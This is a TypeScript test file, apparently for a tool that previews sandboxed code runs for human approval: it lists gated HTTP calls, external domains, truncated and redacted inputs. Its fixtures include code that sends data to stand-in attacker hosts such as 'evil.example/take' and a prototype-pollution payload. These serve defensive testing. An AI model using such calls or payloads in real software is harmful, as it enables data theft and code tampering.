import type { Group } from '../../../commands/code-runs/plan/group-by-policy.ts';
import { previewBatch } from '../../../commands/reviews/preview-batch.ts';
import type { Surface } from '../../../commands/surfaces/surface-cache.ts';
import type { CodeRun } from '../../../domain/code-run.ts';
import { REDACTED } from '../../../domain/redaction/redacted.ts';
import { planCode } from '../../../sandbox/plan/plan.ts';

const ACTIONS = { clock: ['parse_date'], http: ['send_request'], files: ['read_file'] };
const surface = { actions: ACTIONS, find: () => undefined } as unknown as Surface;
const POLICY = { id: '11111111-1111-4111-8111-111111111111', name: 'Outgoing' };

/** All calls of `http` are gated. A preset adds `enforced` to the input of each gated call. */
function preview(code: string, enforced: Record<string, unknown> = {}) {
  const plan = planCode(code, ACTIONS);
  const gated = plan.calls
    .filter(({ alias }) => alias === 'http')
    .map((predicted) => ({
      predicted,
      call: { input: { ...(predicted.input as object), ...enforced }, hiddenPaths: Object.keys(enforced), category: 'send' },
    }));
  const groups = [{ match: { policy: POLICY }, call: gated[0]!.call, gated }] as unknown as Group[];
  const run = { id: 'crun_1', codeHash: 'c0de' } as CodeRun;
  return previewBatch(run, plan, 'f00d', surface, groups) as ReturnType<typeof previewBatch> & {
    preview: { predictedTools: Record<string, unknown>[]; impactSummary: string; externalDomains: string[]; dynamicSignals: string[] };
  };
}

const request = (input: object) => `await svc.http.send_request(${JSON.stringify(input)});`;

test('a gated call and its input stay visible among any number of other calls', () => {
  const others = Array.from({ length: 150 }, (_, n) => `await svc.clock.parse_date({ dateString: "${'A'.repeat(2000)}${n}" });`);
  const input = { method: 'POST', url: 'https://evil.example/take', body: { amount: 5 } };
  const { predictedTools, impactSummary } = preview([...others, request(input)].join('\n')).preview;
  expect(predictedTools).toHaveLength(151);
  for (const [index, tool] of predictedTools.slice(0, 150).entries())
    expect(tool).toMatchObject({ tool: 'clock.parse_date', line: index + 1, repeats: false });
  expect(predictedTools[150]).toEqual({
    ...{ tool: 'http.send_request', line: 151, column: 7, repeats: false },
    ...{ approvalPolicyId: POLICY.id, input },
  });
  expect(predictedTools[149]).toMatchObject({ inputLength: 2000 + 3 + '{"dateString":""}'.length, inputShownLength: 0 });
  expect(predictedTools[149]).not.toHaveProperty('input');
  expect(impactSummary).toContain('http.send_request, at most once. It sends to others. We show what it sends.');
});

test('of many gated calls, only long inputs are cut, and the text says so', () => {
  const long = Array.from({ length: 99 }, (_, n) => request({ url: `https://long.example/${n}`, body: 'B'.repeat(9000) }));
  const short = { url: 'https://evil.example/take', body: 'small' };
  const { predictedTools, impactSummary } = preview([...long, request(short)].join('\n')).preview;
  expect(predictedTools[99]).toMatchObject({ input: short });
  expect(predictedTools[99]).not.toHaveProperty('inputLength');
  for (const [index, tool] of predictedTools.slice(0, 99).entries()) {
    const { inputLength, inputShownLength, input } = tool as { inputLength: number; inputShownLength: number; input: { url: string } };
    expect(input.url).toBe(`https://long.example/${index}`);
    expect(inputLength).toBeGreaterThan(9000);
    expect(inputShownLength).toBeGreaterThan(200);
    expect(inputShownLength).toBeLessThan(inputLength);
  }
  expect(impactSummary).toContain('some with an input that is only partly shown, some with the input shown');
  expect(impactSummary).toMatch(
    /the input of http.send_request in line 1 is 9,\d{3} characters; [\d,]+ of them are shown; .*; and 94 more\./,
  );
  expect(JSON.stringify(predictedTools).length).toBeLessThan(200_000);
});

test('an enforced preset value is hidden in inputs and in the program’s own comment, but not in names of tools', () => {
  const code = `// Sends to http.send_request\n${request({ body: 'for http.send_request' })}\nawait svc.clock.parse_date({ dateString: "http.send_request" })`;
  const { preview: shown, redactedPaths, presetPaths } = preview(code, { channel: 'http.send_request' });
  expect(presetPaths).toContain('predictedTools.0.input.channel');
  expect(redactedPaths).toEqual(expect.arrayContaining(presetPaths));
  expect(shown.predictedTools).toMatchObject([
    { tool: 'http.send_request', line: 2, input: { body: 'for [redacted]', channel: '[redacted]' } },
    { tool: 'clock.parse_date', line: 3, input: { dateString: '[redacted]' } },
  ]);
  expect(shown.intentSummary).toBe('The program describes itself: Sends to [redacted]');
  expect(redactedPaths).toEqual(
    expect.arrayContaining([
      'intentSummary',
      'predictedTools.0.input.channel',
      'predictedTools.0.input.body',
      'predictedTools.1.input.dateString',
    ]),
  );
});

test('domains of gated calls are listed first, with the number of all domains', () => {
  const reads = Array.from({ length: 60 }, (_, n) => `await svc.files.read_file({ path: "https://d${n}.example.com/" });`);
  const { externalDomains, dynamicSignals, impactSummary } = preview(
    `${reads.join('\n')}\n${request({ url: 'https://evil.example.org/' })}`,
  ).preview;
  expect(externalDomains).toHaveLength(50);
  expect(externalDomains[0]).toBe('evil.example.org');
  expect(dynamicSignals).toContain('the code names 61 domains, of which 11 are not listed');
  expect(impactSummary).toContain('It contacts evil.example.org; d0.example.com;');
  expect(impactSummary).toContain('d18.example.com; and 41 more.');
});

test('of a partly known input, the known fields are shown and the others are named', () => {
  const code = `const { sha256 } = await svc.files.read_file({ path: 'a' });
    await svc.http.send_request({ method: 'POST', url: '/reports', headers: { Authorization: 'Bearer abcdefghijkl' }, body: { sha256 } });`;
  const { preview: shown, redactedPaths } = preview(code);
  expect(shown.predictedTools[1]).toMatchObject({
    knownInput: { method: 'POST', url: '/reports', headers: { Authorization: REDACTED } },
    openFields: ['body.sha256'],
  });
  expect(shown.predictedTools[1]).not.toHaveProperty('input');
  expect(redactedPaths).toContain('predictedTools.1.knownInput.headers.Authorization');
  expect(shown.impactSummary).toContain("http.send_request, at most once. It sends to others. We can't see yet all that it sends.");
});

test('a known field named like a built-in object property is shown and pollutes no prototype', () => {
  const code = `const { sha256 } = await svc.files.read_file({ path: 'a' });
    await svc.http.send_request({ constructor: { prototype: { hacked: 'yes', sha256 }, assign: 'gone' }, toString: { call: 'gone', sha256 } });`;
  const before = [Object.assign, Object.prototype.toString.call];
  try {
    expect(preview(code).preview.predictedTools[1]).toMatchObject({
      knownInput: { constructor: { prototype: { hacked: 'yes' }, assign: 'gone' }, toString: { call: 'gone' } },
      openFields: ['constructor.prototype.sha256', 'toString.sha256'],
    });
    expect([Object.assign, Object.prototype.toString.call]).toEqual(before);
    expect({}).not.toHaveProperty('hacked');
  } finally {
    Reflect.deleteProperty(Object.prototype, 'hacked');
  }
});
